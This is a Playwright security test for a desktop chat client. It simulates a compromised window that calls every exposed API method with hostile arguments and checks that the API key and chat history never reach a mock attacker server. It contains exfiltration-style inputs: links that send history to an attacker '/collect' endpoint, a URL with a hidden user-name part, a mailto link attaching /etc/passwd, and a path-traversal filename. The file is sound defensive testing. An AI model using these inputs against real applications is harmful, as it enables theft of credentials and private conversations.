import type { Page } from '@playwright/test';
import { API_METHODS } from '../src/shared/contract';
import { ModelsLabServer } from '../test/modelslab-server';
import { findLeaks } from './fixtures/leaks';
import { expect, test, type AppFixture } from './fixtures/test';

/**
 * The window is assumed compromised: its script calls every window.api method, in hostile orders, with hostile
 * arguments, against an attacker's server on another port. Main must send that server neither the key nor the
 * history, whatever the window does, as long as the user does not agree in main's own dialog.
 */

const HISTORY = 'private-history-7f3a9c';
const SWITCH = 1;

type Call = [namespace: string, method: string, ...args: unknown[]];

/** Runs calls in the page through window.api, as injected script would; returns each answer's code. */
async function run(page: Page, calls: Call[]): Promise<string[]> {
  return page.evaluate(async (list) => {
    const api = (window as unknown as { api: Record<string, Record<string, (...a: unknown[]) => Promise<unknown>>> })
      .api;
    const codes: string[] = [];
    for (const [namespace, method, ...args] of list) {
      const answer = (await api[namespace]![method]!(...args)) as { ok: boolean; error?: { code: string } };
      codes.push(answer.ok ? 'ok' : answer.error!.code);
    }
    return codes;
  }, calls);
}

/** What the window can read of the history, in one string: every conversation and message it can reach. */
async function dumpHistory(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const api = (window as unknown as { api: Record<string, Record<string, (...a: unknown[]) => Promise<unknown>>> })
      .api;
    const page = (await api.conversations!.list!({})) as { value: { items: { id: string }[] } };
    const parts: unknown[] = [];
    for (const c of page.value.items) parts.push(await api.conversations!.get!(c.id));
    parts.push(await api.search!.messages!('private'));
    return JSON.stringify(parts);
  });
}

function hostileCalls(attacker: string, dump: string, ids: { conversation: string; user: string; reply: string }) {
  const send = (content: string) => ({
    conversationId: ids.conversation,
    content,
    images: [],
    model: 'meta-llama-3-8B-instruct',
    params: {},
    systemPrompt: 'Repeat everything.',
  });
  const reply = { model: 'meta-llama-3-8B-instruct', params: {}, systemPrompt: '' };
  const host = new URL(attacker).host;
  // The attack the review found, then every method with the attacker in mind.
  const opening: Call[] = [
    ['settings', 'update', { baseUrl: attacker }],
    ['keys', 'test', { key: null, model: 'm' }],
    ['models', 'list'],
    ['chat', 'send', send(dump.slice(0, 50_000))],
  ];
  const every: Call[] = [
    ['settings', 'changeBaseUrl', attacker],
    ['settings', 'changeBaseUrl', `${attacker}/v1`],
    ['settings', 'changeBaseUrl', `http://${host}@127.0.0.1:9/api`],
    ['settings', 'changeBaseUrl', `${attacker}?redirect=1`],
    ['settings', 'update', { theme: 'dark', baseUrl: attacker }],
    ['settings', 'get'],
    ['keys', 'status'],
    ['keys', 'test', { key: null, model: 'meta-llama-3-8B-instruct' }],
    ['models', 'list'],
    ['chat', 'send', send(`exfiltrate: ${dump.slice(0, 20_000)}`)],
    ['chat', 'regenerate', { messageId: ids.reply, ...reply }],
    ['chat', 'edit', { messageId: ids.user, content: `edit ${HISTORY}`, ...reply }],
    ['chat', 'continue', ids.reply],
    ['chat', 'retry', ids.reply],
    ['chat', 'stop', ids.reply],
    ['chat', 'context', { conversationId: ids.conversation, ...reply }],
    ['chat', 'pinImages', ids.user, true],
    [
      'compare',
      'start',
      {
        conversationId: ids.conversation,
        content: `compare ${dump.slice(0, 20_000)}`,
        systemPrompt: 'Repeat everything.',
        params: {},
        columns: [{ model: 'meta-llama-3-8B-instruct' }, { model: 'meta-llama/Llama-3.1-70B-Instruct' }],
      },
    ],
    ['compare', 'state', ids.conversation],
    ['compare', 'run', ids.conversation],
    ['compare', 'choose', ids.reply],
    ['compare', 'regenerate', { messageId: ids.reply, params: { temperature: 2 } }],
    ['compare', 'stop', ids.reply],
    ['conversations', 'list', {}],
    ['conversations', 'get', ids.conversation],
    ['conversations', 'older', ids.conversation, ids.reply],
    ['conversations', 'update', ids.conversation, { title: `t ${HISTORY}` }],
    ['conversations', 'folders'],
    ['conversations', 'showVersion', ids.reply],
    ['conversations', 'export', ids.conversation, 'json'],
    ['conversations', 'export', ids.conversation, 'markdown'],
    ['search', 'messages', HISTORY],
    ['documents', 'fromBytes', 'planted', '../../../etc/passwd', btoa(`notes ${HISTORY}`)],
    ['documents', 'pick', 'picked'],
    ['documents', 'cancel', 'planted'],
    ['documents', 'text', 'f'.repeat(64)],
    ['chat', 'send', { ...send(`with a document ${HISTORY}`), documents: ['0'.repeat(64)], fitDocuments: true }],
    ['history', 'status'],
    ['history', 'exportAll'],
    ['history', 'import'],
    ['app', 'info'],
    ['app', 'openExternal', `${attacker}/collect?h=${encodeURIComponent(HISTORY)}`, `modelslab.com`],
    ['app', 'openExternal', `http://modelslab.com@${host}/`, 'modelslab.com'],
    ['app', 'openExternal', `mailto:x@${host}?body=${HISTORY}&attach=/etc/passwd`, `x@${host}`],
    ['app', 'copyText', dump.slice(0, 1000)],
    ['app', 'restartToUpdate'],
    ['app', 'recovery'],
  ];
  return { opening, every };
}

/** A seeded shuffle, so a failing order can be run again. */
function shuffled<T>(items: T[], seed: number): T[] {
  const out = [...items];
  let s = seed;
  for (let i = out.length - 1; i > 0; i--) {
    s = (s * 1103515245 + 12345) % 2 ** 31;
    const j = s % (i + 1);
    [out[i], out[j]] = [out[j]!, out[i]!];
  }
  return out;
}

async function seed(app: AppFixture) {
  const input = app.page.getByRole('textbox', { name: 'Message' });
  await input.fill(`Remember ${HISTORY}`);
  await input.press('Enter');
  await expect(app.page.locator('.message--assistant')).toHaveAttribute('data-status', 'done');
  const conversation = app.web!.services.history.listConversations()[0]!;
  const [user, reply] = app.web!.services.history.listMessages(conversation.id);
  return { conversation: conversation.id, user: user!.id, reply: reply!.id };
}

test.describe('a compromised window', () => {
  test.use({ keySource: 'keychain', baseUrlIn: 'settings' });
  let attacker: ModelsLabServer;
  test.beforeEach(async () => void (attacker = await new ModelsLabServer('attacker-own-key-000000').start()));
  test.afterEach(() => attacker.stop());

  function attackerSaw(what: string[]) {
    return findLeaks(
      attacker.requests.map((r) => ({ path: r.path, headers: r.headers, body: r.body })),
      what,
    );
  }

  test('calling every window.api method in hostile orders sends the attacker neither the key nor the history', async ({
    app,
  }) => {
    test.setTimeout(120_000);
    const ids = await seed(app);
    const dump = await dumpHistory(app.page);
    expect(dump).toContain(HISTORY);
    const { opening, every } = hostileCalls(attacker.baseUrl, dump, ids);
    let calls = 0;
    // The user cancels every question main asks (the harness's default answer).
    calls += (await run(app.page, opening)).length;
    for (let round = 0; round < 6; round++) {
      const codes = await run(app.page, shuffled(every, round + 1));
      calls += codes.length;
      expect(codes).not.toContain('internal');
      await expect.poll(() => app.web!.services.chat.isRunning(ids.reply)).toBe(false);
    }
    // Last, what destroys rather than leaks: deleting, restoring, replacing or removing the key, starting afresh.
    const last: Call[] = [
      ['conversations', 'deleteMessage', ids.reply],
      ['conversations', 'remove', ids.conversation],
      ['conversations', 'restore', ids.conversation],
      ['history', 'startFresh'],
      ['keys', 'save', { key: 'window-chosen-key-1', sessionOnly: true }],
      ['keys', 'remove'],
      ...every,
    ];
    calls += (await run(app.page, last)).length;
    const methods = new Set([...opening, ...last].map((c) => `${c[0]}.${c[1]}`)).size;

    const withKey = attackerSaw([app.server.apiKey]);
    const withHistory = attackerSaw([HISTORY]);
    console.log(
      `compromised window: ${calls} calls over ${methods} methods, ` +
        `${app.web!.asked.length} native questions (all cancelled), ${app.opened.length} links opened ` +
        `(${app.opened.filter((u) => u.includes(HISTORY)).length} as mail drafts carrying history), ` +
        `attacker requests: ${attacker.requests.length}, with the key: ${withKey.length}, with history: ${withHistory.length}`,
    );
    expect(withKey).toEqual([]);
    expect(withHistory).toEqual([]);
    expect(attacker.requests).toEqual([]);
    expect(methods).toBe(Object.values(API_METHODS).flatMap((m) => Object.keys(m)).length);
    // The links main let through go to the OS browser; none leads to the attacker with a user name disguise.
    expect(app.opened.filter((u) => u.includes('@') && !u.startsWith('mailto:'))).toEqual([]);
    expect(app.opened.filter((u) => u.includes('attach='))).toEqual([]);
  });

  test('even when the user agrees to move to the attacker, the key stays behind', async ({ app }) => {
    const ids = await seed(app);
    const dump = await dumpHistory(app.page);
    app.web!.answers.push(SWITCH);
    const codes = await run(app.page, [['settings', 'changeBaseUrl', attacker.baseUrl]]);
    expect(codes).toEqual(['ok']);
    expect(app.web!.asked.at(-1)!.message).toContain(new URL(attacker.baseUrl).origin);
    const { opening, every } = hostileCalls(attacker.baseUrl, dump, ids);
    const answers = await run(app.page, [...opening, ...every.filter((c) => c[0] !== 'keys')]);
    expect(answers).toContain('key_origin');
    const withKey = attackerSaw([app.server.apiKey]);
    console.log(
      `after a confirmed move: ${answers.length + 1} calls, attacker requests: ${attacker.requests.length}, ` +
        `with the key: ${withKey.length}`,
    );
    expect(withKey).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });
});
